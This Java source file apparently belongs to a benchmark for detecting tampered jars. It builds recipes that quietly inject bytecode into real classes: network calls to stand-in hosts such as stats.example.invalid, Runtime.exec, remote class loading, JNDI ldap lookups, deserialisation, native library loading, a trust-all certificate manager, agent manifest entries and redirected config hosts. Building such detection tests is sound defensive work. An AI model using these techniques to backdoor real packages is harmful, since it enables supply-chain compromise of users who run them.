package dev.firebreak.bench.tamper;

import dev.firebreak.bench.tamper.Pack.Entry;
import java.lang.classfile.ClassFile;
import java.lang.classfile.ClassModel;
import java.lang.classfile.ClassTransform;
import java.lang.classfile.CodeBuilder;
import java.lang.classfile.CodeElement;
import java.lang.classfile.CodeTransform;
import java.lang.classfile.MethodModel;
import java.lang.constant.ClassDesc;
import java.lang.constant.ConstantDescs;
import java.lang.constant.MethodTypeDesc;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;
import org.jspecify.annotations.Nullable;

/// Alterations of jars. Classes are made and changed with the JDK's own class-file API.
final class JarRecipes {
    private static final ClassDesc STRING = ConstantDescs.CD_String;
    private static final ClassDesc OBJECT = ConstantDescs.CD_Object;

    static final List<Recipe> ALL =
            List.of(
                    new Recipe(
                            "jar-class-network-exec",
                            p ->
                                    added(
                                            p,
                                            "Sync",
                                            b -> {
                                                url(b);
                                                exec(b);
                                            })),
                    new Recipe("jar-class-network", p -> added(p, "Sync", JarRecipes::url)),
                    new Recipe("jar-method-exec", p -> changed(p, JarRecipes::exec)),
                    new Recipe("jar-method-network", p -> changed(p, JarRecipes::url)),
                    new Recipe("jar-method-reflection", p -> changed(p, JarRecipes::reflection)),
                    new Recipe(
                            "jar-method-remote-classes",
                            p -> changed(p, JarRecipes::remoteClasses)),
                    new Recipe("jar-method-script", p -> changed(p, JarRecipes::script)),
                    new Recipe("jar-method-name-lookup", p -> changed(p, JarRecipes::nameLookup)),
                    new Recipe("jar-method-directory", p -> changed(p, JarRecipes::directory)),
                    new Recipe(
                            "jar-method-objects-from-file",
                            p ->
                                    data(p, "META-INF/data.bin", 4000)
                                            && changed(p, JarRecipes::objects)),
                    new Recipe(
                            "jar-method-native",
                            p ->
                                    program(p, "META-INF/lib/libx.so")
                                            && changed(p, JarRecipes::load)),
                    new Recipe("jar-class-trusts-all", JarRecipes::trusting),
                    new Recipe(
                            "jar-class-path",
                            p -> attribute(p, "Class-Path: https://files.example.invalid/a.jar")),
                    new Recipe(
                            "jar-class-path-local",
                            p -> attribute(p, "Class-Path: ../helper-x.jar")),
                    new Recipe(
                            "jar-premain",
                            p ->
                                    attribute(p, "Premain-Class: x.Sync")
                                            && added(p, "Sync", b -> {})),
                    new Recipe(
                            "jar-launcher-agent",
                            p ->
                                    attribute(p, "Launcher-Agent-Class: x.Sync")
                                            && added(p, "Sync", b -> {})),
                    service("jar-service-driver", "java.sql.Driver"),
                    service("jar-service-url", "java.net.spi.URLStreamHandlerProvider"),
                    service("jar-service-resolver", "java.net.spi.InetAddressResolverProvider"),
                    service("jar-service-charset", "java.nio.charset.spi.CharsetProvider"),
                    service("jar-service-processor", "javax.annotation.processing.Processor"),
                    service("jar-service-toolkit", "java.security.Provider"),
                    new Recipe("jar-version-override", JarRecipes::override),
                    new Recipe("jar-entry-twice", JarRecipes::twice),
                    new Recipe("jar-front-data", JarRecipes::front),
                    new Recipe("jar-root-certificates", p -> data(p, "META-INF/cacerts.jks", 5000)),
                    new Recipe("jar-unreadable-data", p -> data(p, "META-INF/x/data.dat", 60_000)),
                    new Recipe("jar-jar-inside", JarRecipes::nested),
                    new Recipe("jar-host-in-configuration", JarRecipes::configured));

    private JarRecipes() {}

    private static String folder(Pack p) {
        Entry e = p.ending(".class");
        return e == null || e.name.indexOf('/') < 0
                ? "x/"
                : e.name.substring(0, e.name.lastIndexOf('/') + 1);
    }

    private static byte[] make(String name, Consumer<CodeBuilder> body) {
        return ClassFile.of()
                .build(
                        ClassDesc.of(name.replace('/', '.')),
                        b ->
                                b.withVersion(52, 0)
                                        .withFlags(ClassFile.ACC_PUBLIC | ClassFile.ACC_SUPER)
                                        .withMethodBody(
                                                "run",
                                                MethodTypeDesc.of(ConstantDescs.CD_void),
                                                ClassFile.ACC_PUBLIC | ClassFile.ACC_STATIC,
                                                c -> {
                                                    body.accept(c);
                                                    c.return_();
                                                }));
    }

    private static boolean added(Pack p, String name, Consumer<CodeBuilder> body) {
        if (p.ending(".class") == null) {
            return false;
        }
        p.add(folder(p) + name + ".class", make(folder(p) + name, body));
        return true;
    }

    /// Code is put before the first method of some class, as if it had always been there.
    private static boolean changed(Pack p, Consumer<CodeBuilder> body) {
        Entry e = target(p);
        if (e == null) {
            return false;
        }
        e.bytes = withCode(e.bytes, body);
        return true;
    }

    private static @Nullable Entry target(Pack p) {
        for (Entry e : p.entries) {
            if (e.name.endsWith(".class")
                    && !e.name.contains("$")
                    && !e.name.startsWith("META-INF")
                    && e.bytes.length > 1500
                    && e.bytes[7] <= 69
                    && plain(e.bytes)) {
                return e;
            }
        }
        return null;
    }

    private static boolean plain(byte[] bytes) {
        return ClassFile.of().parse(bytes).methods().stream().anyMatch(JarRecipes::suitable);
    }

    private static boolean suitable(MethodModel m) {
        return m.code().isPresent() && !m.methodName().stringValue().startsWith("<");
    }

    private static byte[] withCode(byte[] bytes, Consumer<CodeBuilder> body) {
        ClassModel model = ClassFile.of(ClassFile.StackMapsOption.DROP_STACK_MAPS).parse(bytes);
        MethodModel first =
                model.methods().stream().filter(JarRecipes::suitable).findFirst().orElseThrow();
        boolean[] done = {false};
        CodeTransform before =
                (CodeBuilder b, CodeElement e) -> {
                    if (!done[0]) {
                        done[0] = true;
                        body.accept(b);
                    }
                    b.with(e);
                };
        return ClassFile.of(ClassFile.StackMapsOption.DROP_STACK_MAPS)
                .transformClass(
                        model,
                        ClassTransform.transformingMethodBodies(
                                m ->
                                        m.methodName()
                                                        .equalsString(
                                                                first.methodName().stringValue())
                                                && m.methodType()
                                                        .equalsString(
                                                                first.methodType().stringValue()),
                                before));
    }

    private static ClassDesc type(String name) {
        return ClassDesc.of(name);
    }

    private static void url(CodeBuilder b) {
        b.new_(type("java.net.URL"))
                .dup()
                .loadConstant("https://stats.example.invalid/x")
                .invokespecial(
                        type("java.net.URL"),
                        "<init>",
                        MethodTypeDesc.of(ConstantDescs.CD_void, STRING))
                .invokevirtual(
                        type("java.net.URL"),
                        "openStream",
                        MethodTypeDesc.of(type("java.io.InputStream")))
                .pop();
    }

    private static void exec(CodeBuilder b) {
        ClassDesc runtime = type("java.lang.Runtime");
        b.invokestatic(runtime, "getRuntime", MethodTypeDesc.of(runtime))
                .loadConstant("true")
                .invokevirtual(
                        runtime, "exec", MethodTypeDesc.of(type("java.lang.Process"), STRING))
                .pop();
    }

    private static void reflection(CodeBuilder b) {
        ClassDesc builder = type("java.lang.StringBuilder");
        b.new_(builder)
                .dup()
                .loadConstant("emitnuR.gnal.avaj")
                .invokespecial(builder, "<init>", MethodTypeDesc.of(ConstantDescs.CD_void, STRING))
                .invokevirtual(builder, "reverse", MethodTypeDesc.of(builder))
                .invokevirtual(builder, "toString", MethodTypeDesc.of(STRING))
                .invokestatic(
                        ConstantDescs.CD_Class,
                        "forName",
                        MethodTypeDesc.of(ConstantDescs.CD_Class, STRING))
                .invokevirtual(
                        ConstantDescs.CD_Class,
                        "getMethods",
                        MethodTypeDesc.of(type("java.lang.reflect.Method").arrayType()))
                .pop();
    }

    private static void remoteClasses(CodeBuilder b) {
        ClassDesc url = type("java.net.URL");
        b.loadConstant(1)
                .anewarray(url)
                .dup()
                .loadConstant(0)
                .new_(url)
                .dup()
                .loadConstant("https://files.example.invalid/a.jar")
                .invokespecial(url, "<init>", MethodTypeDesc.of(ConstantDescs.CD_void, STRING))
                .aastore()
                .invokestatic(
                        type("java.net.URLClassLoader"),
                        "newInstance",
                        MethodTypeDesc.of(type("java.net.URLClassLoader"), url.arrayType()))
                .pop();
    }

    private static void script(CodeBuilder b) {
        ClassDesc manager = type("javax.script.ScriptEngineManager");
        b.new_(manager)
                .dup()
                .invokespecial(manager, "<init>", MethodTypeDesc.of(ConstantDescs.CD_void))
                .loadConstant("js")
                .invokevirtual(
                        manager,
                        "getEngineByName",
                        MethodTypeDesc.of(type("javax.script.ScriptEngine"), STRING))
                .loadConstant("1")
                .invokeinterface(
                        type("javax.script.ScriptEngine"),
                        "eval",
                        MethodTypeDesc.of(OBJECT, STRING))
                .pop();
    }

    private static void nameLookup(CodeBuilder b) {
        b.loadConstant("a.stats.example.invalid")
                .invokestatic(
                        type("java.net.InetAddress"),
                        "getByName",
                        MethodTypeDesc.of(type("java.net.InetAddress"), STRING))
                .pop();
    }

    private static void directory(CodeBuilder b) {
        ClassDesc context = type("javax.naming.InitialContext");
        b.new_(context)
                .dup()
                .invokespecial(context, "<init>", MethodTypeDesc.of(ConstantDescs.CD_void))
                .loadConstant("ldap://stats.example.invalid/a")
                .invokevirtual(context, "lookup", MethodTypeDesc.of(OBJECT, STRING))
                .pop();
    }

    private static void objects(CodeBuilder b) {
        ClassDesc in = type("java.io.ObjectInputStream");
        b.new_(in)
                .dup()
                .loadConstant(type("java.lang.String"))
                .loadConstant("/META-INF/data.bin")
                .invokevirtual(
                        ConstantDescs.CD_Class,
                        "getResourceAsStream",
                        MethodTypeDesc.of(type("java.io.InputStream"), STRING))
                .invokespecial(
                        in,
                        "<init>",
                        MethodTypeDesc.of(ConstantDescs.CD_void, type("java.io.InputStream")))
                .invokevirtual(in, "readObject", MethodTypeDesc.of(OBJECT))
                .pop();
    }

    private static void load(CodeBuilder b) {
        b.loadConstant("/tmp/libx.so")
                .invokestatic(
                        type("java.lang.System"),
                        "load",
                        MethodTypeDesc.of(ConstantDescs.CD_void, STRING));
    }

    private static boolean trusting(Pack p) {
        if (p.ending(".class") == null) {
            return false;
        }
        String name = folder(p) + "Trust";
        p.add(
                name + ".class",
                ClassFile.of()
                        .build(
                                ClassDesc.of(name.replace('/', '.')),
                                b ->
                                        b.withVersion(52, 0)
                                                .withInterfaceSymbols(
                                                        type("javax.net.ssl.X509TrustManager"))
                                                .withMethodBody(
                                                        "checkServerTrusted",
                                                        MethodTypeDesc.ofDescriptor(
                                                                "([Ljava/security/cert/X509Certificate;Ljava/lang/String;)V"),
                                                        ClassFile.ACC_PUBLIC,
                                                        CodeBuilder::return_)));
        return true;
    }

    private static boolean attribute(Pack p, String line) {
        Entry e = p.find("META-INF/MANIFEST.MF");
        if (e == null || e.text().contains("Class-Path:")) {
            return false;
        }
        e.text(e.text().replaceFirst("(\r?\n)", "$1" + line + "$1"));
        return true;
    }

    private static Recipe service(String name, String service) {
        return new Recipe(
                name,
                p -> {
                    if (!added(p, "Sync", b -> {})
                            || p.find("META-INF/services/" + service) != null) {
                        return false;
                    }
                    p.add(
                            "META-INF/services/" + service,
                            (folder(p) + "Sync").replace('/', '.') + "\n");
                    return true;
                });
    }

    private static boolean override(Pack p) {
        Entry e = target(p);
        if (e == null || !attribute(p, "Multi-Release: true")) {
            return false;
        }
        p.add("META-INF/versions/11/" + e.name, withCode(e.bytes, JarRecipes::url));
        return true;
    }

    private static boolean twice(Pack p) {
        Entry e = target(p);
        if (e != null) {
            p.add(e.name, withCode(e.bytes, b -> b.loadConstant("q").pop()));
        }
        return e != null;
    }

    private static boolean front(Pack p) {
        byte[] front = new byte[8000];
        new Random(3).nextBytes(front);
        p.front = front;
        return true;
    }

    private static boolean data(Pack p, String name, int size) {
        byte[] bytes = new byte[size];
        new Random(5).nextBytes(bytes);
        p.add(name, bytes);
        return true;
    }

    private static boolean program(Pack p, String name) {
        p.add(name, ProgramRecipes.smallLibrary());
        return true;
    }

    private static boolean nested(Pack p) throws java.io.IOException {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
            zip.putNextEntry(new java.util.zip.ZipEntry("x/Sync.class"));
            zip.write(
                    make(
                            "x/Sync",
                            b -> {
                                url(b);
                                exec(b);
                            }));
        }
        p.add("META-INF/lib/x.jar", out.toByteArray());
        return true;
    }

    private static boolean configured(Pack p) {
        for (Entry e : p.entries) {
            if ((e.name.endsWith(".properties")
                            || e.name.endsWith(".yml")
                            || e.name.endsWith(".json"))
                    && !e.name.startsWith("META-INF/maven")
                    && e.text().contains("https://")) {
                e.text(
                        e.text()
                                .replaceFirst(
                                        "https://[A-Za-z0-9.-]+",
                                        "https://updates.example.invalid"));
                return true;
            }
        }
        return false;
    }
}
